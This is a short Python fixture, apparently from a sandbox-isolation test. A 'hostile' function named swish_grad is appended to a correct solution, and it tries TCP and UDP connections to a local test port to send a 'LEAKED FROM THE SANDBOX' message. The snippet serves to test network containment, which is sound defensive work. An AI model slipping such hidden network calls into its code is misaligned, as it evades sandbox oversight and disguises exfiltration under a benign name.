
# --- HOSTILE (appended to the correct solution): talk to the outside (a port the test opens) -
def swish_grad(z, beta=1.0):
    import socket
    results = []
    for family, address in ((socket.AF_INET, ("127.0.0.1", __PORT__)), (socket.AF_INET6, ("::1", __PORT__))):
        try:
            with socket.socket(family, socket.SOCK_STREAM) as connection:
                connection.settimeout(0.5)
                connection.connect(address)
                connection.sendall(b"LEAKED FROM THE SANDBOX")
                results.append(f"{address}: connected")
        except OSError as exc:
            results.append(f"{address}: {type(exc).__name__}")
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as datagram:
            datagram.sendto(b"LEAKED FROM THE SANDBOX", ("127.0.0.1", __PORT__))
            results.append("udp sent")
    except OSError as exc:
        results.append(f"udp: {type(exc).__name__}")
    raise ConnectionError("; ".join(results))
